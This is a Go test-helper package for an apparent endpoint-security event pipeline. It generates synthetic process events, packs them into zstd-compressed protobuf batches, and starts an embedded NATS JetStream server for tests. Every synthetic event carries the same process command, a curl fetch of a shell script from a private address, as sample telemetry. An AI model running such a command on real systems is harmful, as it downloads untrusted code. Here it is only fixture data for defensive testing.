// Package batchtest builds event batches as agents publish them, for the
// tests of the services that read the events stream.
package batchtest

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	natsserver "github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"google.golang.org/protobuf/proto"

	busv1 "github.com/vigilsec/vigil/api/bus/v1"
	"github.com/vigilsec/vigil/internal/bus"
	"github.com/vigilsec/vigil/internal/event"
)

// Events returns n valid process events of agent id, their ids prefixed
// by prefix.
func Events(id, prefix string, n int) []event.Event {
	out := make([]event.Event, n)
	at := time.Now().UTC()
	for i := range out {
		ev := event.New(fmt.Sprintf("%s-%d", prefix, i), at, "process", "exec")
		ev.Set(event.FieldAgentID, id)
		ev.Set(event.FieldProcessCmd, "/usr/bin/curl -s http://10.0.0.5/x.sh")
		ev.Set(event.FieldProcessPID, 4242+i)
		out[i] = ev
	}
	return out
}

// Lines encodes events as newline-delimited JSON.
func Lines(tb testing.TB, evs []event.Event) []byte {
	tb.Helper()
	var buf bytes.Buffer
	for _, ev := range evs {
		b, err := json.Marshal(ev)
		if err != nil {
			tb.Fatal(err)
		}
		buf.Write(b)
		buf.WriteByte('\n')
	}
	return buf.Bytes()
}

var zenc, _ = zstd.NewWriter(nil)

// Message encodes an EventBatch of agent id with payload (count is what
// the batch claims), compressed with zstd when zst is set.
func Message(id string, payload []byte, count int, zst bool, dropped uint64) []byte {
	b := &busv1.EventBatch{AgentId: id, Count: uint32(count), Payload: payload, DroppedSinceLast: dropped}
	if zst {
		b.Compression = busv1.EventBatch_COMPRESSION_ZSTD
		b.Payload = zenc.EncodeAll(payload, nil)
	}
	data, _ := proto.Marshal(b)
	return data
}

// Server starts an embedded JetStream server on loopback with the events
// stream as the center creates it (file storage, limits retention) and
// returns its client URL and a JetStream client of its own connection.
// Both stop when the test ends.
func Server(tb testing.TB) (string, jetstream.JetStream) {
	tb.Helper()
	ns, err := natsserver.NewServer(&natsserver.Options{
		Host: "127.0.0.1", Port: -1, JetStream: true, StoreDir: tb.TempDir(),
		NoLog: true, NoSigs: true, DisableJetStreamBanner: true, MaxPayload: 1 << 20,
	})
	if err != nil {
		tb.Fatal(err)
	}
	ns.Start()
	tb.Cleanup(ns.Shutdown)
	if !ns.ReadyForConnections(10 * time.Second) {
		tb.Fatal("server not ready")
	}
	js, _ := Connect(tb, ns.ClientURL())
	_, err = js.CreateOrUpdateStream(context.Background(), jetstream.StreamConfig{
		Name: bus.EventsStream, Subjects: []string{bus.AllEvents}, Storage: jetstream.FileStorage,
		Retention: jetstream.LimitsPolicy, Discard: jetstream.DiscardOld, MaxAge: time.Hour,
		MaxMsgSize: 1 << 20, Duplicates: 2 * time.Minute,
	})
	if err != nil {
		tb.Fatal(err)
	}
	return ns.ClientURL(), js
}

// Connect opens a connection of its own to url, closed when the test
// ends (or before, by the caller).
func Connect(tb testing.TB, url string) (jetstream.JetStream, *nats.Conn) {
	tb.Helper()
	nc, err := nats.Connect(url)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(nc.Close)
	js, err := jetstream.New(nc)
	if err != nil {
		tb.Fatal(err)
	}
	return js, nc
}
